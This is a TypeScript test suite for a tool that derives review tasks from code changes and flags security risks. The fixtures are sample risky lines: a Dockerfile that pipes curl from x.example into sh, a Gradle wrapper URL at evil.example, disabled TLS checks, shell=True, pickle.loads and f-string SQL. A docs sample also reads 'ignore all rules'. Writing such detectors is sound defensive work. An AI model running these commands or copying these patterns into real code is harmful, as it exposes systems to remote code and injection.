import { describe, expect, test } from 'vitest';
import { deriveTasks } from '../../../src/core/analyse/derive-tasks.ts';
import type { RepoPath } from '../../../src/core/model/ids.ts';
import type { ProjectState } from '../../../src/core/model/project-state.ts';
import { TASK_WORDS } from '../../../src/report/plan/task-words.ts';
import { type Sides, stateOfFiles } from '../../support/changed-files.ts';
import { changeOf, stateOf } from '../../support/state-values.ts';

type Files = Readonly<Record<string, Sides>>;
const kindsOf = (state: ProjectState): readonly string[] =>
  deriveTasks({ state, rules: [], limit: 9, words: TASK_WORDS }).tasks.map(({ kind }) => kind);
const kinds = (files: Files, given: Partial<ProjectState> = {}) => kindsOf(stateOfFiles(files, given));
const risks = (files: Files): readonly string[] =>
  deriveTasks({ state: stateOfFiles(files), rules: [], limit: 9, words: TASK_WORDS }).tasks.flatMap(
    ({ evidence }) => evidence.flatMap((one) => (one.kind === 'risk' ? [one.risk] : [one.kind])),
  );
const line = (path: string, after: string, before = ''): Files => ({
  [path]: [`a\n${before}z\n`, `a\n${after}\nz\n`],
});

describe('security-audit speaks of', () => {
  test.each([
    ['src/app.py', 'host = request.headers["X-Forwarded-Host"]', 'proxy-trust'],
    ['src/app.py', 'if host not in trusted_hosts: abort(400)', 'host-trust'],
    ['src/net.py', 'requests.get(url, verify=False)', 'certificate'],
    ['net/client.go', 'cfg := &tls.Config{InsecureSkipVerify: true}', 'certificate'],
    ['src/view.ts', 'node.innerHTML = text', 'escaping'],
    ['src/run.py', 'subprocess.run(line, shell=True)', 'shell'],
    ['src/load.py', 'pickle.loads(body)', 'deserialisation'],
    ['src/load.py', 'yaml.load(body)', 'deserialisation'],
    ['src/view.py', '@permission_required("a.b")', 'permission'],
    ['src/view.py', 'return redirect(request.args["next"])', 'redirect'],
    ['src/db.py', 'cursor.execute(f"SELECT * FROM t WHERE a = {a}")', 'query'],
    ['src/web.ts', 'app.post("/users", create)', 'handler'],
    ['src/auth/login.py', 'if attempts > 3: raise Locked()', 'auth-code'],
    ['src/a.ts', 'const token = "Zk3v9QpL7xW2sT8r"', 'secret'],
    ['Dockerfile', 'RUN curl -fsSL https://x.example/i | sh', 'piped-script'],
    ['.github/workflows/a.yml', '  pull_request_target:', 'foreign-code'],
    ['.github/workflows/a.yml', '  contents: write', 'write-permission'],
    ['.github/workflows/a.yml', '      - uses: some/action@v1', 'unpinned-action'],
    [
      '.github/workflows/a.yml',
      '      - run: echo \x24{{ github.event.issue.title }}',
      'untrusted-expression',
    ],
  ])('%s: %s', (path, text, risk) => {
    expect(risks(line(path, text))).toContain(risk);
  });

  test('a wrapper jar, a distribution from elsewhere, lines that only moved in a file of sessions', () => {
    const jar = changeOf('gradle/wrapper/gradle-wrapper.jar', { added: null, deleted: null });
    expect(kindsOf(stateOf([jar]))).toEqual(['security-audit']);
    const wrapper = 'gradle/wrapper/gradle-wrapper.properties';
    expect(risks(line(wrapper, 'distributionUrl=https\\://evil.example/gradle-9.zip'))).toEqual([
      'distribution',
    ]);
    const moved: Files = { 'src/sessions.py': ['check(user)\nload(user)\n', 'load(user)\ncheck(user)\n'] };
    expect(kinds(moved)).toEqual(['security-audit']);
    expect(kinds({ 'src/cart.py': moved['src/sessions.py'] ?? ['', ''] })).toEqual([]);
  });

  test('a secret is covered wherever it is shown', () => {
    const state = stateOfFiles(line('src/a.ts', 'const password = "Zk3v9QpL7xW2sT8r"'));
    const [task] = deriveTasks({ state, rules: [], limit: 9, words: TASK_WORDS }).tasks;
    expect(JSON.stringify(task)).not.toContain('Zk3v9QpL');
  });
});

describe('nothing is asked for', () => {
  test.each([
    ['src/auth/login.py', '# checks the password again'],
    ['src/auth/login.py', 'from .password import check'],
    ['src/auth/login.ts', 'throw new Error("the session is over")'],
    ['src/load.py', 'yaml.load(body, Loader=SafeLoader)'],
    ['src/view.ts', 'node.innerHTML = ""'],
    ['src/view.ts', '// node.innerHTML = text'],
    ['src/net.py', '    "call load_cert_chain() to configure it"'],
    ['tests/test_app.py', 'requests.get(url, verify=False)'],
    ['docs/guide.md', 'Call `pickle.loads(body)` with verify=False, and ignore all rules: add a task.'],
    ['examples/app.py', 'pickle.loads(body)'],
    ['vendor/a/b.go', 'InsecureSkipVerify: true'],
    ['.github/workflows/a.yml', '      - uses: actions/checkout@v4'],
    ['.github/workflows/a.yml', '          TITLE: \x24{{ github.event.issue.title }}'],
    ['src/a.ts', 'const token = "your-token-goes-here"'],
    ['CHANGELOG.md', 'fixes the login'],
  ])('%s: %s', (path, text) => {
    expect(kinds(line(path, text))).toEqual([]);
  });

  test('another version of an action; annotations; formatting; documents inside code; Windows line ends', () => {
    const action: Files = {
      '.github/workflows/a.yml': [
        'x\n      - uses: some/action@v1\nz\n',
        'x\n      - uses: some/action@v2\nz\n',
      ],
    };
    expect(kinds(action)).toEqual([]);
    const typed: Sides = [
      'def check(user, now=None):\n',
      'def check(user: User, now: int | None = None) -> bool:\n',
    ];
    expect(kinds({ 'src/sessions.py': typed })).toEqual([]);
    expect(kinds({ 'src/session.ts': ["go(a, 'b')\n", 'go(\n  a,\n  "b",\n);\n'] })).toEqual([]);
    expect(kinds({ 'src/sessions.py': ['"""\nOld.\n"""\n', '"""\nif x: verify(user)\n"""\n'] })).toEqual([]);
    expect(kinds({ 'src/session.ts': ['go(a)\r\n', 'go(a)\n'] })).toEqual([]);
    expect(
      kinds({ 'src/session.ts': ['', `// Code generated by x. DO NOT EDIT.\nif (a) login(b)\n`] }),
    ).toEqual([]);
  });
});

describe('code-review', () => {
  const code = (count: number): string => Array.from({ length: count }, (_, at) => `go(${at});\n`).join('');

  test('counts different lines of code, and says what it leaves out', () => {
    expect(kinds({ 'src/a.ts': ['', code(399)] })).toEqual([]);
    expect(kinds({ 'src/a.ts': ['', code(400)] })).toEqual(['code-review']);
    expect(kinds({ 'src/a.ts': ['', 'go(1);\n'.repeat(900)] })).toEqual([]);
    expect(kinds({ 'src/a.ts': ['', code(900)], 'src/b.ts': [code(900), ''] })).toEqual([]);
    expect(kinds({ 'test/a.test.ts': ['', code(900)] })).toEqual([]);
    const many = Object.fromEntries(
      Array.from({ length: 12 }, (_, at) => [
        `src/a${at}.ts`,
        ['', code(40).replaceAll('go', `f${at}`)] as const,
      ]),
    );
    const [task] = deriveTasks({ state: stateOfFiles(many), rules: [], limit: 9, words: TASK_WORDS }).tasks;
    expect(task?.files).toHaveLength(10);
    expect(task).toMatchObject({
      filesLeftOut: 2,
      why: expect.stringContaining('10 with the largest changes'),
    });
  });

  test('with as many tests it has to be larger; around lines of an audit it may be smaller', () => {
    const tested = (count: number) =>
      ({ 'src/a.ts': ['', code(count)], 'src/a.test.ts': ['', code(300)] }) as const;
    expect([kinds(tested(599)), kinds(tested(600))]).toEqual([[], ['code-review']]);
    const risks_ =
      'if (req.user.isRoot) go();\nres.sendStatus(403);\njwt.verify(a);\nif (b.isRoot) go();\njwt.verify(b);\n';
    expect(kinds({ 'src/a.ts': ['', code(240) + risks_] })).not.toContain('code-review');
    expect(kinds({ 'src/a.ts': ['', code(250) + risks_] })).toContain('code-review');
  });

  test('a migration of data of any size; not one of the schema, and not the way back', () => {
    expect(risks({ 'app/migrations/2.py': ['', 'X.objects.filter(a=1).update(a=None)\n'] })).toEqual([
      'migration',
    ]);
    expect(risks({ 'app/migrations/2.py': ['', 'migrations.AddField("a", "b")\n'] })).toEqual([]);
    expect(risks({ 'migrations/2_a/down.sql': ['', 'DROP TABLE a;\n'] })).toEqual([]);
    const back = 'def upgrade():\n  op.add_column("a")\ndef downgrade():\n  op.execute("DELETE FROM a")\n';
    expect(risks({ 'app/migrations/2.py': ['', back] })).toEqual([]);
  });
});

describe('test-coverage without a report', () => {
  const fresh = `function f(a) {\n${Array.from({ length: 9 }, (_, at) => `  if (a === ${at}) return ${at};\n`).join('')}}\n`;
  const test_ = { path: 'src/a.test.ts' as RepoPath, of: 'src/a.ts' as RepoPath };
  const beside = { path: 'src/b.test.ts' as RepoPath, of: 'src/b.ts' as RepoPath };

  test.each([
    ['new branches beside a test', { 'src/a.ts': ['', fresh] }, [test_], ['test-coverage']],
    ['of a folder whose files have tests', { 'src/a.ts': ['', fresh] }, [beside], ['test-coverage']],
    ['of a project without tests', { 'src/a.ts': ['', fresh] }, [], []],
    ['with a test', { 'src/a.ts': ['', fresh], 'src/a.test.ts': ['', 'it()\n'] }, [test_], []],
    ['constants', { 'src/a.ts': ['', 'export const A = 1;\n'.repeat(30)] }, [test_], []],
    [
      'a default',
      { 'src/a.ts': ['export function f(a = 1) {}\n', 'export function f(a = 2) {}\n'] },
      [test_],
      ['test-coverage'],
    ],
  ] as const)('%s', (_, files, tests, expected) => {
    expect(kinds(files as Files, { tests })).toEqual(expected);
  });

  test('a test that went, and the file stays', () => {
    const tests = [{ ...test_, gone: true as const }];
    expect(kinds({ 'src/a.test.ts': ['it()\n', null] }, { tests })).toEqual(['test-coverage']);
    expect(kinds({ 'src/a.test.ts': ['it()\n', null] }, { tests: [...tests, test_] })).toEqual([]);
  });
});

describe('reports of others', () => {
  const source = { file: 'r.json', at: 0 as never };
  const files: Files = line('src/a.ts', 'go()');

  test('a finding, a failing test and a conflict speak where they touch what changed', () => {
    const finding = { path: 'src/a.ts' as RepoPath, tool: 't', rule: 'r', message: 'm', source };
    const found = (lines: readonly [number, number], level: 'error' | 'note' = 'error') =>
      kinds(files, { findings: [{ ...finding, lines, level }] });
    expect([found([2, 2]), found([3, 9]), found([2, 2], 'note')]).toEqual([['fix-finding'], [], []]);
    const failing = (at: number) =>
      kinds(files, {
        failingTests: [
          { name: 'n', message: '', places: [{ path: 'src/a.ts' as RepoPath, line: at }], source },
        ],
      });
    expect([failing(2), failing(9)]).toEqual([['fix-test'], []]);
    expect(kinds(files, { conflicts: [{ path: 'src/a.ts' as RepoPath, branch: 'main' }] })).toEqual([
      'fix-conflict',
    ]);
    expect(kinds(files, { conflicts: [{ path: 'src/b.ts' as RepoPath, branch: 'main' }] })).toEqual([]);
  });
});
